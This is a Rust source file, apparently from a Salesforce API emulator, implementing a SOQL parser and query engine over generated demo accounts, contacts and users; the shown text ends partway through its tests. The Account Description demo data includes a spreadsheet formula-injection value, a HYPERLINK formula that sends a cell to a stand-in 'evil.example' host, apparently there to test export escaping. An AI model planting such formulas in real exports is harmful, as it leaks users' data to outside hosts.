//! A small SOQL engine over deterministic demo data: the select list (fields, relationship paths
//! such as `Owner.Name`, sub-queries, `COUNT()`), `WHERE` comparisons joined by AND/OR, `ORDER BY`
//! one field, `LIMIT` and `OFFSET`. Records are generated from their index on demand, so 100,000
//! accounts cost no memory until a page is rendered. Errors read like Salesforce's own
//! (`MALFORMED_QUERY`, `INVALID_FIELD`, `INVALID_TYPE`).

use serde_json::{json, Map, Value};
use std::cmp::Ordering;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Object {
    Account,
    Contact,
    User,
    Organization,
}

impl Object {
    pub fn parse(name: &str) -> Option<Object> {
        match name.to_ascii_lowercase().as_str() {
            "account" => Some(Object::Account),
            "contact" => Some(Object::Contact),
            "user" => Some(Object::User),
            "organization" => Some(Object::Organization),
            _ => None,
        }
    }
    pub fn name(self) -> &'static str {
        match self {
            Object::Account => "Account",
            Object::Contact => "Contact",
            Object::User => "User",
            Object::Organization => "Organization",
        }
    }
    fn prefix(self) -> &'static str {
        match self {
            Object::Account => "001",
            Object::Contact => "003",
            Object::User => "005",
            Object::Organization => "00D",
        }
    }
    fn fields(self) -> &'static [&'static str] {
        match self {
            Object::Account => &[
                "Id",
                "IsDeleted",
                "Name",
                "Type",
                "ParentId",
                "Industry",
                "AnnualRevenue",
                "NumberOfEmployees",
                "Phone",
                "Website",
                "Description",
                "BillingCity",
                "BillingCountry",
                "OwnerId",
                "CreatedDate",
                "LastModifiedDate",
            ],
            Object::Contact => {
                &["Id", "IsDeleted", "AccountId", "FirstName", "LastName", "Name", "Email", "Phone", "Title", "OwnerId", "CreatedDate"]
            }
            Object::User => &["Id", "Name", "FirstName", "LastName", "Username", "Email", "IsActive", "CreatedDate"],
            Object::Organization => {
                &["Id", "Name", "InstanceName", "IsSandbox", "TrialExpirationDate", "NamespacePrefix", "OrganizationType", "CreatedDate"]
            }
        }
    }
    /// Parent relationships: name, target, and the id field behind it.
    fn parents(self) -> &'static [(&'static str, Object)] {
        match self {
            Object::Account => &[("Owner", Object::User), ("Parent", Object::Account)],
            Object::Contact => &[("Account", Object::Account), ("Owner", Object::User)],
            Object::User | Object::Organization => &[],
        }
    }
    fn children(self) -> &'static [(&'static str, Object)] {
        match self {
            Object::Account => &[("Contacts", Object::Contact)],
            _ => &[],
        }
    }

    pub const ALL: [Object; 4] = [Object::Account, Object::Contact, Object::User, Object::Organization];

    /// `describe` of this object: fields with their types, and relationships both ways.
    pub fn describe(self) -> Value {
        let field_type = |f: &str| match f {
            "Id" => "id",
            "IsDeleted" | "IsActive" | "IsSandbox" => "boolean",
            "AnnualRevenue" => "currency",
            "NumberOfEmployees" => "int",
            "Phone" => "phone",
            "Website" => "url",
            "Email" | "Username" => "email",
            "Description" => "textarea",
            "CreatedDate" | "LastModifiedDate" | "TrialExpirationDate" => "datetime",
            f if f.ends_with("Id") => "reference",
            _ => "string",
        };
        let fields: Vec<Value> = self
            .fields()
            .iter()
            .map(|f| {
                let parent = self.parents().iter().find(|(rel, _)| format!("{rel}Id") == *f);
                json!({
                    "name": f,
                    "label": f,
                    "type": field_type(f),
                    "relationshipName": parent.map(|(rel, _)| *rel),
                    "referenceTo": parent.map(|(_, o)| vec![o.name()]).unwrap_or_default(),
                    "nillable": !matches!(*f, "Id" | "Name" | "IsDeleted"),
                })
            })
            .collect();
        let children: Vec<Value> = self
            .children()
            .iter()
            .map(|(rel, o)| json!({"relationshipName": rel, "childSObject": o.name(), "field": format!("{}Id", self.name())}))
            .collect();
        json!({"name": self.name(), "label": self.name(), "queryable": true, "keyPrefix": self.prefix(), "fields": fields, "childRelationships": children})
    }
}

pub const USERS: [(&str, &str, &str); 5] = [
    ("Ada", "Lovelace", "ada@example.com"),
    ("Grace", "Hopper", "grace@example.com"),
    ("Alan", "Turing", "alan@example.com"),
    ("Edsger", "Dijkstra", "edsger@example.com"),
    ("Barbara", "Liskov", "barbara@example.com"),
];

const INDUSTRIES: [&str; 8] = ["Technology", "Banking", "Retail", "Energy", "Healthcare", "Education", "Media", "Manufacturing"];
const CITIES: [(&str, &str); 8] = [
    ("San Francisco", "USA"),
    ("深圳", "中国"),
    ("London", "UK"),
    ("Paris", "France"),
    ("上海", "中国"),
    ("Berlin", "Germany"),
    ("Tokyo", "Japan"),
    ("São Paulo", "Brazil"),
];

/// The demo data: `accounts` accounts, two contacts for three accounts in four, five users.
#[derive(Debug, Clone, Copy)]
pub struct Dataset {
    pub accounts: usize,
}

impl Dataset {
    pub fn count(&self, o: Object) -> usize {
        match o {
            Object::Account => self.accounts,
            Object::Contact => self.accounts * 2,
            Object::User => USERS.len(),
            Object::Organization => 1,
        }
    }
    pub fn exists(&self, o: Object, i: usize) -> bool {
        match o {
            Object::Contact => (i / 2) % 4 != 3,
            _ => true,
        }
    }
    pub fn deleted(&self, o: Object, i: usize) -> bool {
        match o {
            Object::Account => i % 50 == 49,
            Object::Contact => i % 40 == 39,
            Object::User | Object::Organization => false,
        }
    }
    pub fn id(&self, o: Object, i: usize) -> String {
        match o {
            // The org's id, as in the identity URL.
            Object::Organization => "00DEMU000000001EAA".to_string(),
            _ => format!("{}EMU{:09}AAA", o.prefix(), i + 1),
        }
    }

    /// The index of a record by its 15- or 18-character id.
    pub fn index_of(&self, o: Object, id: &str) -> Option<usize> {
        if !(id.len() == 15 || id.len() == 18) || !id.is_ascii() {
            return None;
        }
        let i = match o {
            Object::Organization => 0,
            _ => id.get(6..15)?.parse::<usize>().ok()?.checked_sub(1)?,
        };
        (i < self.count(o) && self.exists(o, i) && self.id(o, i)[..15] == id[..15]).then_some(i)
    }

    /// One record with every field of its object, as `sobjects/{Object}/{Id}` returns it.
    pub fn render_all(&self, o: Object, i: usize, version: &str) -> Value {
        let mut rec = Map::new();
        rec.insert("attributes".into(), self.attributes(o, i, version));
        for f in o.fields() {
            rec.insert(f.to_string(), self.field(o, i, f));
        }
        Value::Object(rec)
    }

    fn parent(&self, o: Object, i: usize, rel: &str) -> Option<(Object, usize)> {
        match (o, rel) {
            (Object::Account, "Owner") => Some((Object::User, i % USERS.len())),
            (Object::Account, "Parent") => (!i.is_multiple_of(10)).then_some((Object::Account, i - i % 10)),
            (Object::Contact, "Account") => Some((Object::Account, i / 2)),
            (Object::Contact, "Owner") => Some((Object::User, (i / 2) % USERS.len())),
            _ => None,
        }
    }

    fn children(&self, _o: Object, i: usize) -> Vec<usize> {
        [2 * i, 2 * i + 1].into_iter().filter(|k| self.exists(Object::Contact, *k)).collect()
    }

    pub fn field(&self, o: Object, i: usize, f: &str) -> Value {
        let date = |days: usize| {
            let (y, d) = (2020 + (days / 365) % 6, days % 365);
            json!(format!("{y}-{:02}-{:02}T{:02}:{:02}:00.000+0000", d / 31 % 12 + 1, d % 28 + 1, days % 24, days % 60))
        };
        match (o, f) {
            (_, "Id") => json!(self.id(o, i)),
            (_, "IsDeleted") => json!(self.deleted(o, i)),
            (Object::Account, "Name") => {
                let n = i + 1;
                if n.is_multiple_of(7) {
                    json!(format!("腾讯示例科技有限公司 {n:06}"))
                } else if n.is_multiple_of(11) {
                    json!(format!("Smith, Jones & \"Partners\" {n:06}"))
                } else {
                    json!(format!("Account {n:06}"))
                }
            }
            (Object::Account, "Type") => json!(["Customer - Direct", "Customer - Channel", "Prospect", "Partner"][i % 4]),
            (Object::Account, "ParentId") => self.parent(o, i, "Parent").map(|(po, pi)| json!(self.id(po, pi))).unwrap_or(Value::Null),
            (Object::Account, "Industry") => json!(INDUSTRIES[i % INDUSTRIES.len()]),
            (Object::Account, "AnnualRevenue") => {
                if i % 9 == 4 {
                    Value::Null
                } else {
                    json!(((i * 7919) % 100_000) as f64 * 1000.0)
                }
            }
            (Object::Account, "NumberOfEmployees") => json!((i * 31) % 5000 + 1),
            (Object::Account, "Phone") | (Object::Contact, "Phone") => json!(format!("+1 415 555 {:04}", i % 10_000)),
            (Object::Account, "Website") => json!(format!("https://account{}.example.com", i + 1)),
            // Long text as users type it: line breaks and tabs, a long paragraph, and cells a
            // spreadsheet would run as formulas.
            (Object::Account, "Description") => match i % 6 {
                0 => json!(format!("Key account {}.\nRenewal due in Q3;\tcontact: procurement.", i + 1)),
                1 => json!("=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click for details\")"),
                2 => json!(format!("{} The account was created when two regional distributors merged; it buys hardware, support contracts and training for about forty sites, and its procurement rules require three quotes for any order above fifty thousand dollars.", "Long note:")),
                3 => json!("+1 call back after 5pm"),
                4 => Value::Null,
                _ => json!(format!("客户 {} 的备注", i + 1)),
            },
            (Object::Account, "BillingCity") => json!(CITIES[i % CITIES.len()].0),
            (Object::Account, "BillingCountry") => json!(CITIES[i % CITIES.len()].1),
            (Object::Account, "OwnerId") | (Object::Contact, "OwnerId") | (Object::Contact, "AccountId") => {
                let rel = if f == "AccountId" { "Account" } else { "Owner" };
                self.parent(o, i, rel).map(|(po, pi)| json!(self.id(po, pi))).unwrap_or(Value::Null)
            }
            (_, "CreatedDate") => date(i),
            (_, "LastModifiedDate") => date(i + 30),
            (Object::Contact, "FirstName") => json!(["Li", "Maria", "John", "Wei", "Fatima", "Kenji"][i % 6]),
            (Object::Contact, "LastName") => json!(format!("Contact{:07}", i + 1)),
            (Object::Contact, "Name") => json!(format!("{} Contact{:07}", ["Li", "Maria", "John", "Wei", "Fatima", "Kenji"][i % 6], i + 1)),
            (Object::Contact, "Email") => json!(format!("contact{}@example.com", i + 1)),
            (Object::Contact, "Title") => json!(["CEO", "CTO", "Buyer", "Engineer"][i % 4]),
            (Object::User, "FirstName") => json!(USERS[i].0),
            (Object::User, "LastName") => json!(USERS[i].1),
            (Object::User, "Name") => json!(format!("{} {}", USERS[i].0, USERS[i].1)),
            (Object::User, "Username") | (Object::User, "Email") => json!(USERS[i].2),
            (Object::User, "IsActive") => json!(true),
            (Object::Organization, "Name") => json!("OAuth Desk Emulated Org"),
            (Object::Organization, "InstanceName") => json!("EMU1"),
            (Object::Organization, "IsSandbox") => json!(false),
            (Object::Organization, "OrganizationType") => json!("Developer Edition"),
            (Object::Organization, "TrialExpirationDate") | (Object::Organization, "NamespacePrefix") => Value::Null,
            _ => Value::Null,
        }
    }
}

/// A failed query, in Salesforce's words.
#[derive(Debug, Clone, PartialEq)]
pub struct SoqlError {
    pub error_code: &'static str,
    pub message: String,
}

fn malformed(soql: &str, col: usize, token: &str) -> SoqlError {
    SoqlError {
        error_code: "MALFORMED_QUERY",
        message: format!("\n{soql}\n{}^\nERROR at Row:1:Column:{}\nunexpected token: '{}'", " ".repeat(col), col + 1, token),
    }
}

fn invalid_field(soql: &str, col: usize, field: &str, entity: &str) -> SoqlError {
    SoqlError {
        error_code: "INVALID_FIELD",
        message: format!(
            "\n{soql}\n{}^\nERROR at Row:1:Column:{}\nNo such column '{field}' on entity '{entity}'. If you are attempting to use a custom field, be sure to append the '__c' after the custom field name. Please reference your WSDL or the describe call for the appropriate names.",
            " ".repeat(col),
            col + 1
        ),
    }
}

#[derive(Debug, Clone, PartialEq)]
enum Tok {
    Ident(String),
    Str(String),
    Num(f64),
    Punct(&'static str),
    End,
}

fn tokenize(s: &str) -> Result<Vec<(Tok, usize)>, SoqlError> {
    let chars: Vec<(usize, char)> = s.char_indices().collect();
    let mut out = Vec::new();
    let mut i = 0;
    while i < chars.len() {
        let (pos, c) = chars[i];
        if c.is_whitespace() {
            i += 1;
        } else if c.is_ascii_alphabetic() || c == '_' {
            let start = i;
            while i < chars.len() && (chars[i].1.is_ascii_alphanumeric() || matches!(chars[i].1, '_' | '.')) {
                i += 1;
            }
            let text: String = chars[start..i].iter().map(|(_, c)| c).collect();
            out.push((Tok::Ident(text), pos));
        } else if c.is_ascii_digit() || (c == '-' && chars.get(i + 1).is_some_and(|(_, d)| d.is_ascii_digit())) {
            let start = i;
            i += 1;
            while i < chars.len() && (chars[i].1.is_ascii_digit() || chars[i].1 == '.') {
                i += 1;
            }
            let text: String = chars[start..i].iter().map(|(_, c)| c).collect();
            out.push((Tok::Num(text.parse().map_err(|_| malformed(s, pos, &text))?), pos));
        } else if c == '\'' {
            i += 1;
            let mut text = String::new();
            loop {
                match chars.get(i) {
                    None => return Err(malformed(s, pos, "'")),
                    Some((_, '\\')) => {
                        if let Some((_, n)) = chars.get(i + 1) {
                            text.push(*n);
                        }
                        i += 2;
                    }
                    Some((_, '\'')) => {
                        i += 1;
                        break;
                    }
                    Some((_, ch)) => {
                        text.push(*ch);
                        i += 1;
                    }
                }
            }
            out.push((Tok::Str(text), pos));
        } else {
            let two: String = chars[i..].iter().take(2).map(|(_, c)| c).collect();
            let p = match two.as_str() {
                "!=" => Some("!="),
                "<=" => Some("<="),
                ">=" => Some(">="),
                "<>" => Some("!="),
                _ => None,
            };
            if let Some(p) = p {
                out.push((Tok::Punct(p), pos));
                i += 2;
                continue;
            }
            let p = match c {
                ',' => ",",
                '(' => "(",
                ')' => ")",
                '=' => "=",
                '<' => "<",
                '>' => ">",
                _ => return Err(malformed(s, pos, &c.to_string())),
            };
            out.push((Tok::Punct(p), pos));
            i += 1;
        }
    }
    out.push((Tok::End, s.len()));
    Ok(out)
}

/// One select-list entry.
#[derive(Debug, Clone)]
pub enum Item {
    /// Relationship names then a field, canonical case: `["Owner", "Name"]`.
    Path(Vec<String>),
    SubQuery {
        relationship: String,
        query: Box<Query>,
    },
    Count,
}

#[derive(Debug, Clone)]
enum Literal {
    Str(String),
    Num(f64),
    Bool(bool),
    Null,
}

#[derive(Debug, Clone)]
struct Predicate {
    path: Vec<String>,
    op: &'static str,
    values: Vec<Literal>,
}

#[derive(Debug, Clone)]
pub struct Query {
    pub object: Object,
    pub items: Vec<Item>,
    /// OR of ANDs.
    filter: Vec<Vec<Predicate>>,
    order: Option<(Vec<String>, bool)>,
    pub limit: Option<usize>,
    offset: usize,
}

struct Parser<'a> {
    soql: &'a str,
    toks: Vec<(Tok, usize)>,
    at: usize,
}

impl<'a> Parser<'a> {
    fn peek(&self) -> &Tok {
        &self.toks[self.at].0
    }
    fn pos(&self) -> usize {
        self.toks[self.at].1
    }
    fn next(&mut self) -> Tok {
        let t = self.toks[self.at].0.clone();
        if self.at < self.toks.len() - 1 {
            self.at += 1;
        }
        t
    }
    fn unexpected(&self) -> SoqlError {
        let text = match self.peek() {
            Tok::Ident(s) => s.clone(),
            Tok::Str(s) => format!("'{s}'"),
            Tok::Num(n) => n.to_string(),
            Tok::Punct(p) => p.to_string(),
            Tok::End => "<EOF>".to_string(),
        };
        malformed(self.soql, self.pos(), &text)
    }
    fn keyword(&self, kw: &str) -> bool {
        matches!(self.peek(), Tok::Ident(s) if s.eq_ignore_ascii_case(kw))
    }
    fn expect_keyword(&mut self, kw: &str) -> Result<(), SoqlError> {
        if self.keyword(kw) {
            self.next();
            Ok(())
        } else {
            Err(self.unexpected())
        }
    }
    fn punct(&self, p: &str) -> bool {
        matches!(self.peek(), Tok::Punct(q) if *q == p)
    }

    fn query(&mut self, parent: Option<Object>) -> Result<Query, SoqlError> {
        self.expect_keyword("select")?;
        // The select list is read as raw entries first: its fields are checked once FROM is known.
        let mut raw: Vec<(RawItem, usize)> = Vec::new();
        loop {
            let pos = self.pos();
            if self.punct("(") {
                self.next();
                let save = self.at;
                // Sub-query: resolved after FROM.
                raw.push((RawItem::Sub(save), pos));
                let mut depth = 1;
                while depth > 0 {
                    match self.next() {
                        Tok::Punct("(") => depth += 1,
                        Tok::Punct(")") => depth -= 1,
                        Tok::End => return Err(malformed(self.soql, self.soql.len(), "<EOF>")),
                        _ => {}
                    }
                }
            } else if self.keyword("count") {
                self.next();
                if !self.punct("(") {
                    return Err(self.unexpected());
                }
                self.next();
                if matches!(self.peek(), Tok::Ident(_)) {
                    self.next();
                }
                if !self.punct(")") {
                    return Err(self.unexpected());
                }
                self.next();
                raw.push((RawItem::Count, pos));
            } else if let Tok::Ident(name) = self.peek().clone() {
                if name.eq_ignore_ascii_case("from") {
                    return Err(self.unexpected());
                }
                self.next();
                raw.push((RawItem::Path(name), pos));
            } else {
                return Err(self.unexpected());
            }
            if self.punct(",") {
                self.next();
                continue;
            }
            break;
        }
        self.expect_keyword("from")?;
        let from_pos = self.pos();
        let Tok::Ident(from) = self.next() else { return Err(malformed(self.soql, from_pos, "<EOF>")) };
        let object = match parent {
            None => Object::parse(&from).ok_or_else(|| SoqlError {
                error_code: "INVALID_TYPE",
                message: format!("\n{}\n{}^\nERROR at Row:1:Column:{}\nsObject type '{from}' is not supported. If you are attempting to use a custom object, be sure to append the '__c' after the entity name. Please reference your WSDL or the describe call for the appropriate names.", self.soql, " ".repeat(from_pos), from_pos + 1),
            })?,
            Some(p) => p
                .children()
                .iter()
                .find(|(n, _)| n.eq_ignore_ascii_case(&from))
                .map(|(_, o)| *o)
                .ok_or_else(|| SoqlError {
                    error_code: "INVALID_TYPE",
                    message: format!("\n{}\n{}^\nERROR at Row:1:Column:{}\nDidn't understand relationship '{from}' in FROM part of query call. If you are attempting to use a custom relationship, be sure to append the '__r' after the custom relationship name. Please reference your WSDL or the describe call for the appropriate names.", self.soql, " ".repeat(from_pos), from_pos + 1),
                })?,
        };
        let end_of_query = self.at;
        let mut items = Vec::new();
        for (r, pos) in raw {
            match r {
                RawItem::Count => items.push(Item::Count),
                RawItem::Path(name) => items.push(Item::Path(resolve_path(self.soql, object, &name, pos)?)),
                RawItem::Sub(start) => {
                    self.at = start;
                    let sub = self.query(Some(object))?;
                    if !self.punct(")") {
                        return Err(self.unexpected());
                    }
                    let relationship =
                        object.children().iter().find(|(_, o)| *o == sub.object).map(|(n, _)| n.to_string()).unwrap_or_default();
                    items.push(Item::SubQuery { relationship, query: Box::new(sub) });
                }
            }
        }
        self.at = end_of_query;
        let mut q = Query { object, items, filter: Vec::new(), order: None, limit: None, offset: 0 };
        if self.keyword("where") {
            self.next();
            q.filter = self.condition(object)?;
        }
        if self.keyword("order") {
            self.next();
            self.expect_keyword("by")?;
            let pos = self.pos();
            let Tok::Ident(f) = self.next() else { return Err(malformed(self.soql, pos, "<EOF>")) };
            let path = resolve_path(self.soql, object, &f, pos)?;
            let mut asc = true;
            if self.keyword("asc") {
                self.next();
            } else if self.keyword("desc") {
                self.next();
                asc = false;
            }
            if self.keyword("nulls") {
                self.next();
                self.next();
            }
            q.order = Some((path, asc));
        }
        if self.keyword("limit") {
            self.next();
            match self.next() {
                Tok::Num(n) if n >= 0.0 => q.limit = Some(n as usize),
                _ => return Err(self.unexpected()),
            }
        }
        if self.keyword("offset") {
            self.next();
            match self.next() {
                Tok::Num(n) if n >= 0.0 => q.offset = n as usize,
                _ => return Err(self.unexpected()),
            }
        }
        Ok(q)
    }

    fn literal(&mut self) -> Result<Literal, SoqlError> {
        match self.peek().clone() {
            Tok::Str(s) => {
                self.next();
                Ok(Literal::Str(s))
            }
            Tok::Num(n) => {
                self.next();
                Ok(Literal::Num(n))
            }
            Tok::Ident(s) if s.eq_ignore_ascii_case("true") || s.eq_ignore_ascii_case("false") => {
                self.next();
                Ok(Literal::Bool(s.eq_ignore_ascii_case("true")))
            }
            Tok::Ident(s) if s.eq_ignore_ascii_case("null") => {
                self.next();
                Ok(Literal::Null)
            }
            _ => Err(self.unexpected()),
        }
    }

    fn condition(&mut self, object: Object) -> Result<Vec<Vec<Predicate>>, SoqlError> {
        let mut ors = vec![Vec::new()];
        loop {
            let pos = self.pos();
            let Tok::Ident(f) = self.next() else { return Err(malformed(self.soql, pos, "<EOF>")) };
            let path = resolve_path(self.soql, object, &f, pos)?;
            let (op, values) = if self.keyword("like") {
                self.next();
                ("like", vec![self.literal()?])
            } else if self.keyword("in") || self.keyword("not") {
                let negate = self.keyword("not");
                self.next();
                if negate {
                    self.expect_keyword("in")?;
                }
                if !self.punct("(") {
                    return Err(self.unexpected());
                }
                self.next();
                let mut vals = vec![self.literal()?];
                while self.punct(",") {
                    self.next();
                    vals.push(self.literal()?);
                }
                if !self.punct(")") {
                    return Err(self.unexpected());
                }
                self.next();
                (if negate { "not in" } else { "in" }, vals)
            } else {
                let op = match self.next() {
                    Tok::Punct(p @ ("=" | "!=" | "<" | ">" | "<=" | ">=")) => p,
                    _ => {
                        self.at -= 1;
                        return Err(self.unexpected());
                    }
                };
                (op, vec![self.literal()?])
            };
            ors.last_mut().expect("one group").push(Predicate { path, op, values });
            if self.keyword("and") {
                self.next();
            } else if self.keyword("or") {
                self.next();
                ors.push(Vec::new());
            } else {
                return Ok(ors);
            }
        }
    }
}

enum RawItem {
    Path(String),
    Sub(usize),
    Count,
}

fn resolve_path(soql: &str, object: Object, dotted: &str, pos: usize) -> Result<Vec<String>, SoqlError> {
    let parts: Vec<&str> = dotted.split('.').collect();
    let mut cur = object;
    let mut out = Vec::new();
    for (n, part) in parts.iter().enumerate() {
        if n + 1 < parts.len() {
            match cur.parents().iter().find(|(r, _)| r.eq_ignore_ascii_case(part)) {
                Some((r, target)) => {
                    out.push(r.to_string());
                    cur = *target;
                }
                None => return Err(invalid_field(soql, pos, dotted, object.name())),
            }
        } else {
            match cur.fields().iter().find(|f| f.eq_ignore_ascii_case(part)) {
                Some(f) => out.push(f.to_string()),
                None => return Err(invalid_field(soql, pos, part, cur.name())),
            }
        }
    }
    Ok(out)
}

pub fn parse(soql: &str) -> Result<Query, SoqlError> {
    let mut p = Parser { soql, toks: tokenize(soql)?, at: 0 };
    let q = p.query(None)?;
    if !matches!(p.peek(), Tok::End) {
        return Err(p.unexpected());
    }
    Ok(q)
}

impl Dataset {
    pub fn path_value(&self, o: Object, i: usize, path: &[String]) -> Value {
        let mut cur = (o, i);
        for rel in &path[..path.len() - 1] {
            match self.parent(cur.0, cur.1, rel) {
                Some(next) => cur = next,
                None => return Value::Null,
            }
        }
        self.field(cur.0, cur.1, &path[path.len() - 1])
    }

    fn matches(&self, o: Object, i: usize, filter: &[Vec<Predicate>]) -> bool {
        if filter.is_empty() {
            return true;
        }
        filter.iter().any(|group| group.iter().all(|p| self.predicate(o, i, p)))
    }

    fn predicate(&self, o: Object, i: usize, p: &Predicate) -> bool {
        let v = self.path_value(o, i, &p.path);
        let cmp = |lit: &Literal| -> Option<Ordering> {
            match (&v, lit) {
                (Value::Null, Literal::Null) => Some(Ordering::Equal),
                (Value::Null, _) | (_, Literal::Null) => None,
                (Value::String(a), Literal::Str(b)) => Some(a.to_lowercase().cmp(&b.to_lowercase())),
                (Value::Number(a), Literal::Num(b)) => a.as_f64().and_then(|a| a.partial_cmp(b)),
                (Value::Bool(a), Literal::Bool(b)) => Some(a.cmp(b)),
                _ => None,
            }
        };
        match p.op {
            "=" => cmp(&p.values[0]) == Some(Ordering::Equal),
            "!=" => cmp(&p.values[0]) != Some(Ordering::Equal),
            "<" => cmp(&p.values[0]) == Some(Ordering::Less),
            ">" => cmp(&p.values[0]) == Some(Ordering::Greater),
            "<=" => matches!(cmp(&p.values[0]), Some(Ordering::Less | Ordering::Equal)),
            ">=" => matches!(cmp(&p.values[0]), Some(Ordering::Greater | Ordering::Equal)),
            "in" => p.values.iter().any(|l| cmp(l) == Some(Ordering::Equal)),
            "not in" => !p.values.iter().any(|l| cmp(l) == Some(Ordering::Equal)),
            "like" => match (&v, &p.values[0]) {
                (Value::String(s), Literal::Str(pat)) => like(&s.to_lowercase(), &pat.to_lowercase()),
                _ => false,
            },
            _ => false,
        }
    }

    /// The indices of the rows a query returns, in order, after OFFSET and LIMIT.
    pub fn select(&self, q: &Query, include_deleted: bool) -> Vec<u32> {
        self.select_from(q, include_deleted, 0..self.count(q.object))
    }

    fn select_from(&self, q: &Query, include_deleted: bool, candidates: impl Iterator<Item = usize>) -> Vec<u32> {
        let mut rows: Vec<u32> = candidates
            .filter(|&i| {
                self.exists(q.object, i) && (include_deleted || !self.deleted(q.object, i)) && self.matches(q.object, i, &q.filter)
            })
            .map(|i| i as u32)
            .collect();
        if let Some((path, asc)) = &q.order {
            let key = |i: &u32| self.path_value(q.object, *i as usize, path);
            rows.sort_by(|a, b| {
                let o = compare_values(&key(a), &key(b));
                if *asc {
                    o
                } else {
                    o.reverse()
                }
            });
        }
        let rows: Vec<u32> = rows.into_iter().skip(q.offset).collect();
        match q.limit {
            Some(n) => rows.into_iter().take(n).collect(),
            None => rows,
        }
    }

    fn attributes(&self, o: Object, i: usize, version: &str) -> Value {
        json!({"type": o.name(), "url": format!("/services/data/v{version}/sobjects/{}/{}", o.name(), self.id(o, i))})
    }

    /// One record as Salesforce renders it: `attributes` first, relationships nested, a null
    /// relationship as `null`, sub-queries as a whole query result.
    pub fn render(&self, q: &Query, i: usize, version: &str, include_deleted: bool) -> Value {
        let mut rec = Map::new();
        rec.insert("attributes".into(), self.attributes(q.object, i, version));
        for item in &q.items {
            match item {
                Item::Count => {}
                Item::Path(path) => self.insert_path(&mut rec, q.object, i, path, version),
                Item::SubQuery { relationship, query } => {
                    let kids = self.select_from(query, include_deleted, self.children(q.object, i).into_iter());
                    let value = if kids.is_empty() {
                        Value::Null
                    } else {
                        let records: Vec<Value> = kids.iter().map(|k| self.render(query, *k as usize, version, include_deleted)).collect();
                        json!({"totalSize": records.len(), "done": true, "records": records})
                    };
                    rec.insert(relationship.clone(), value);
                }
            }
        }
        Value::Object(rec)
    }

    fn insert_path(&self, rec: &mut Map<String, Value>, o: Object, i: usize, path: &[String], version: &str) {
        if path.len() == 1 {
            rec.insert(path[0].clone(), self.field(o, i, &path[0]));
            return;
        }
        let rel = &path[0];
        match self.parent(o, i, rel) {
            None => {
                rec.insert(rel.clone(), Value::Null);
            }
            Some((po, pi)) => {
                let entry = rec.entry(rel.clone()).or_insert_with(|| {
                    let mut m = Map::new();
                    m.insert("attributes".into(), self.attributes(po, pi, version));
                    Value::Object(m)
                });
                if let Value::Object(m) = entry {
                    self.insert_path(m, po, pi, &path[1..], version);
                }
            }
        }
    }
}

fn column(name: &str, display: &str, aggregate: bool, joins: Vec<Value>) -> Value {
    json!({
        "aggregate": aggregate, "apexType": if joins.is_empty() && !aggregate { json!("String") } else { Value::Null },
        "booleanType": false, "columnName": name, "custom": name.ends_with("__c"), "displayName": display,
        "foreignKeyName": Value::Null, "insertable": false, "joinColumns": joins, "numberType": false, "textType": false, "updatable": false
    })
}

/// `?q=...&columns=true`: the select list as Salesforce describes it, relationship paths grouped
/// under their relationship (`joinColumns`), sub-queries and aggregates flagged `aggregate`.
pub fn column_metadata(q: &Query) -> Value {
    fn group(paths: &[&[String]]) -> Vec<Value> {
        let mut out: Vec<(String, Vec<&[String]>)> = Vec::new();
        for p in paths {
            match out.iter_mut().find(|(h, _)| *h == p[0]) {
                Some((_, rest)) if p.len() > 1 => rest.push(&p[1..]),
                Some(_) => {}
                None => out.push((p[0].clone(), if p.len() > 1 { vec![&p[1..]] } else { vec![] })),
            }
        }
        out.into_iter().map(|(h, rest)| column(&h, &h, false, group(&rest))).collect()
    }
    let mut cols = Vec::new();
    let mut expr = 0;
    let mut pending: Vec<&[String]> = Vec::new();
    let flush = |pending: &mut Vec<&[String]>, cols: &mut Vec<Value>| {
        cols.extend(group(pending));
        pending.clear();
    };
    for item in &q.items {
        match item {
            Item::Path(p) => pending.push(p),
            Item::Count => {
                flush(&mut pending, &mut cols);
                cols.push(column(&format!("expr{expr}"), "COUNT()", true, vec![]));
                expr += 1;
            }
            Item::SubQuery { relationship, query } => {
                flush(&mut pending, &mut cols);
                let inner = column_metadata(query);
                cols.push(column(relationship, relationship, true, inner["columnMetadata"].as_array().cloned().unwrap_or_default()));
            }
        }
    }
    flush(&mut pending, &mut cols);
    json!({"columnMetadata": cols, "entityName": q.object.name(), "groupBy": false, "idSelected": true, "keyPrefix": q.object.prefix()})
}

fn compare_values(a: &Value, b: &Value) -> Ordering {
    match (a, b) {
        (Value::Null, Value::Null) => Ordering::Equal,
        (Value::Null, _) => Ordering::Less,
        (_, Value::Null) => Ordering::Greater,
        (Value::Number(x), Value::Number(y)) => x.as_f64().partial_cmp(&y.as_f64()).unwrap_or(Ordering::Equal),
        (Value::String(x), Value::String(y)) => x.cmp(y),
        (Value::Bool(x), Value::Bool(y)) => x.cmp(y),
        _ => Ordering::Equal,
    }
}

/// SOQL LIKE: `%` any run, `_` one character.
fn like(s: &str, pat: &str) -> bool {
    let s: Vec<char> = s.chars().collect();
    let p: Vec<char> = pat.chars().collect();
    fn go(s: &[char], p: &[char]) -> bool {
        match p.first() {
            None => s.is_empty(),
            Some('%') => (0..=s.len()).any(|k| go(&s[k..], &p[1..])),
            Some('_') => !s.is_empty() && go(&s[1..], &p[1..]),
            Some(c) => s.first() == Some(c) && go(&s[1..], &p[1..]),
        }
    }
    go(&s, &p)
}

#[cfg(test)]
mod tests {
    use super::*;

    const D: Dataset = Dataset { accounts: 100 };

    #[test]
    fn select_with_relationships_and_subquery() {
        let q = parse("SELECT Id, Name, Owner.Name, Parent.Name, (SELECT LastName FROM Contacts) FROM Account LIMIT 3").unwrap();
        let rows = D.select(&q, false);
        assert_eq!(rows, [0, 1, 2]);
        let r0 = D.render(&q, 0, "62.0", false);
        assert_eq!(r0["attributes"]["type"], "Account");
        assert_eq!(r0["Owner"]["Name"], "Ada Lovelace");
        assert!(r0["Parent"].is_null(), "account 0 has no parent");
        assert_eq!(r0["Contacts"]["totalSize"], 2);
        let r1 = D.render(&q, 1, "62.0", false);
        assert_eq!(r1["Parent"]["Name"], "Account 000001");
        let keys: Vec<&String> = r0.as_object().unwrap().keys().collect();
        assert_eq!(keys, ["attributes", "Id", "Name", "Owner", "Parent", "Contacts"], "Salesforce key order");
    }

    #[test]
    fn where_order_limit_and_deleted_rows() {
        let q = parse("select id from account where industry = 'banking' and NumberOfEmployees > 100 order by Name desc limit 5").unwrap();
        let rows = D.select(&q, false);
        assert!(rows.len() <= 5 && !rows.is_empty());
        assert!(rows.iter().all(|&i| i % 8 == 1));
